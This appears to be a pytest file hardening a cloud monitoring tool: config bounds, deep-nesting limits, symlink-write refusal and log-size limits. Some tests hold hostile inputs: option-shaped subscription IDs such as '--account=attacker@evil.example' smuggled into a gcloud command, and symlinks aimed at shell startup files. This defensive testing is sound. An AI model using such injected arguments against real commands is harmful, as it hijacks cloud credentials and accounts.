    assert not any(ch in shown for ch in LINE_BREAKERS) and "\n*Fix*" not in shown and "\nfix:" not in shown


# --- issue 20, Why 9: the rest of the hardening ------------------------------------------------------------

from pathlib import Path  # noqa: E402

from core.config import ConfigError  # noqa: E402
from run.configure import load_config  # noqa: E402
from tests.conftest import PROJECT_ROOT  # noqa: E402


def _toml(tmp_path: Path, old: str, new: str) -> Path:
    text = (PROJECT_ROOT / "canary.toml").read_text(encoding="utf-8")
    assert text.count(old) == 1, old
    path = tmp_path / "canary.toml"
    path.write_text(text.replace(old, new), encoding="utf-8")
    return path


@pytest.mark.parametrize("window", ["59s", "0.5m", "1s", "0s"])
def test_why9_a_push_window_under_60_seconds_is_a_configuration_error(tmp_path, window):
    path = _toml(tmp_path, 'window = "30m"', f'window = "{window}"')
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    assert "monitors.push_delivery.window: expected at least 60s" in str(raised.value)
    assert "alignment period under 60 seconds" in str(raised.value)
    assert load_config(_toml(tmp_path, 'window = "30m"', 'window = "60s"')).monitors["push_delivery"].window == timedelta(seconds=60)


def test_why9_the_monitoring_stand_in_refuses_what_cloud_monitoring_refuses():
    """The push window's floor is the vendor's: the stand-in answers a 59 s alignment period with INVALID_ARGUMENT."""
    from google.cloud import monitoring_v3

    from sources.gcp_push import time_series_request
    from sources.push import PUSH_REQUESTS
    from tests.servers.fake_monitoring import InvalidArgument, answer

    now = datetime(2026, 11, 21, 23, tzinfo=timezone.utc)
    request = monitoring_v3.ListTimeSeriesRequest(time_series_request(
        project="p", metric_type=PUSH_REQUESTS, subscription_ids=["s"], now=now, window=timedelta(seconds=59)))
    with pytest.raises(InvalidArgument):
        answer([], request)
    ok = monitoring_v3.ListTimeSeriesRequest(time_series_request(
        project="p", metric_type=PUSH_REQUESTS, subscription_ids=["s"], now=now, window=timedelta(seconds=60)))
    assert answer([], ok) == []


@pytest.mark.parametrize("nested", ["x = " + "[" * 2000 + "]" * 2000, "x = " + "{a = " * 1500 + "1" + "}" * 1500])
def test_why9_deeply_nested_toml_is_a_configuration_error_not_internal(tmp_path, make_app, local_dir, monkeypatch, nested):
    path = tmp_path / "deep.toml"
    path.write_text((PROJECT_ROOT / "canary.toml").read_text() + "\n[deep]\n" + nested + "\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="nested too deeply"):
        load_config(path)
    result = run_cli("check-config", str(path))
    assert result.code == 2 and "nested too deeply" in result.stderr and "internal" not in result.stderr
    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_CONFIG", str(path))
    body = assert_json_error(make_app().client.post("/", json={"now": T0}), 500, "configuration error", "nested too deeply")
    assert "internal" not in body["error"]


@pytest.mark.parametrize(("old", "new", "why"), [
    ('claim_lease = "5m"', 'claim_lease = "999999999d"', "alerts.claim_lease: expected a duration from 0s to 366d"),
    ('claim_lease = "5m"', 'claim_lease = "9999999999d"', "alerts.claim_lease: expected a duration from 0s to 366d"),
    ('claim_lease = "5m"', 'claim_lease = "2h"', "alerts.claim_lease: expected a duration from 1m to 1h"),
    ('claim_lease = "5m"', 'claim_lease = "0s"', "alerts.claim_lease: expected a duration from 1m to 1h"),
    ('resolved_retention = "30d"', 'resolved_retention = "400d"', "alerts.resolved_retention: expected a duration from 0s to 366d"),
    ('critical = "2h"', 'critical = "99999999d"', "alerts.repeat_after.critical: expected a duration from 0s to 366d"),
])
def test_why9_durations_are_bounded_and_the_rule_is_said(tmp_path, old, new, why):
    result = run_cli("check-config", str(_toml(tmp_path, old, new)))
    assert result.code == 2 and why in result.stderr, result.stderr


def test_why9_the_longest_accepted_lease_runs(local_dir, monkeypatch, tmp_path):
    """The bound is one a run survives: a claim at the upper bound is written and read back."""
    broken_day().write_local(local_dir)
    monkeypatch.setenv("CANARY_CONFIG", str(_toml(tmp_path, 'claim_lease = "5m"', 'claim_lease = "1h"')))
    result = run_cli("run", "--now", T0, "--json")
    assert result.code == 0, result.stderr
    assert result.report["notifications"] and all(n["delivered"] for n in result.report["notifications"])


@pytest.mark.parametrize("victim", ["notifications.jsonl", "state.sqlite3", "state.sqlite3-journal"])
def test_why9_the_local_backend_never_writes_through_a_symlink(local_dir, tmp_path, victim):
    broken_day().write_local(local_dir)
    rc_file = tmp_path / "home" / ".bashrc"
    rc_file.parent.mkdir()
    rc_file.write_text("export PATH=/usr/bin\n")
    (local_dir / victim).symlink_to(rc_file)
    result = run_cli("run", "--now", T0, "--json")
    assert rc_file.read_text() == "export PATH=/usr/bin\n"  # untouched
    assert result.code == 1
    assert "is a symbolic link" in result.stdout + result.stderr and str(local_dir / victim) in result.stdout + result.stderr


def test_why9_the_demo_never_writes_through_a_symlink(local_dir, tmp_path):
    local_dir.mkdir(parents=True, exist_ok=True)
    rc_file = tmp_path / ".profile"
    rc_file.write_text("# mine\n")
    (local_dir / "iam_policies.json").symlink_to(rc_file)
    result = run_cli("demo", "--no-run")
    assert result.code == 2 and "is a symbolic link" in result.stderr
    assert rc_file.read_text() == "# mine\n"


def test_why9_a_test_alert_in_the_future_is_refused_and_blocks_nothing(make_app, local_dir):
    broken_day().write_local(local_dir)
    app = make_app()
    future = app.client.post("/", json={"action": "test_alert", "now": "2099-01-01T00:00:00Z"})
    assert_json_error(future, 400, "now 2099-01-01T00:00:00Z is later than the real clock")
    assert not (local_dir / "notifications.jsonl").exists()
    # A run at an explicit time of the past still runs (nothing was recorded in 2099).
    response = app.client.post("/", json={"now": T0})
    assert response.status_code == 200, response.get_data(as_text=True)


def test_why9_a_test_alert_before_the_latest_notice_is_refused_like_a_run(make_app, local_dir):
    broken_day().write_local(local_dir)
    app = make_app()
    assert app.client.post("/", json={"now": T0}).status_code == 200
    earlier = (datetime.fromisoformat(T0.replace("Z", "+00:00")) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert_json_error(app.client.post("/", json={"action": "test_alert", "now": earlier}), 400,
                      f"now {earlier} is before the latest notice on record", "leave now out")
    later = (datetime.fromisoformat(T0.replace("Z", "+00:00")) + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert app.client.post("/", json={"action": "test_alert", "now": later}).status_code == 200


def test_why9_a_run_at_a_later_now_is_the_local_replay_clock_and_the_earlier_one_is_then_a_replay(local_dir):
    """Only the test alert is held to the real clock: `run --now` later than it is how the README's demo shows
    the repeat two hours on; what it records then refuses earlier explicit times, saying to add --dry-run."""
    broken_day().write_local(local_dir)
    assert run_cli("run", "--now", "2099-01-01T00:00:00Z").code == 0
    earlier = run_cli("run", "--now", "2098-12-31T00:00:00Z")
    assert earlier.code == 2 and "before the latest notice on record" in earlier.stderr and "--dry-run" in earlier.stderr


def test_why9_a_huge_request_path_is_bounded_in_the_log(make_app, local_dir, capsys):
    broken_day().write_local(local_dir)
    capsys.readouterr()
    response = make_app().client.get("/" + "a" * 1_000_000)
    assert response.status_code == 404
    [line] = [json.loads(x) for x in capsys.readouterr().out.splitlines() if x.strip()]
    assert len(json.dumps(line)) < 2_000 and line["path"].endswith("(1000001 characters)")


def test_why9_a_subscription_id_that_looks_like_an_option_stays_a_positional():
    from core.commands import shell_command

    command = shell_command("gcloud", "pubsub", "subscriptions", "describe", "--impersonate-service-account=x@y", project="p")
    assert command == "gcloud pubsub subscriptions describe --project=p -- --impersonate-service-account=x@y"
    assert shell_command("gcloud", "pubsub", "subscriptions", "describe", "sub-1", project="p") == (
        "gcloud pubsub subscriptions describe sub-1 --project=p")  # unchanged when nothing needs it


def test_why9_a_hostile_subscription_id_in_a_push_fix_reaches_gcloud_as_a_positional(local_dir):
    """Through the monitor: an unauthenticated subscription named like an option gets a fix with `--`."""
    import shlex

    from demo.pipeline import healthy_push_chain
    from tests.production import PIPELINE, PUSH_MEMBER, SERVICES
    from tests.scenario import Scenario

    scenario = broken_day()
    services, subscriptions = healthy_push_chain(PIPELINE.project, PIPELINE.region, list(SERVICES), PUSH_MEMBER.split(":", 1)[-1])
    hostile = subscriptions[0]
    hostile["name"] = f"projects/{PIPELINE.project}/subscriptions/--account=attacker@evil.example"
    hostile["pushConfig"].pop("oidcToken", None)
    scenario.services, scenario.subscriptions = services, subscriptions
    assert isinstance(scenario, Scenario)
    scenario.write_local(local_dir)
    result = run_cli("run", "--now", T0, "--monitors", "push_delivery", "--dry-run", "--json")
    assert result.code == 0, result.stderr
    [finding] = [f for f in result.report["findings"] if f["key"].get("problem") == "unauthenticated_push"]
    argv = shlex.split(finding["fix"])
    assert argv[argv.index("--") + 1] == "--account=attacker@evil.example"
    assert all(not a.startswith("--account") for a in argv[: argv.index("--")])
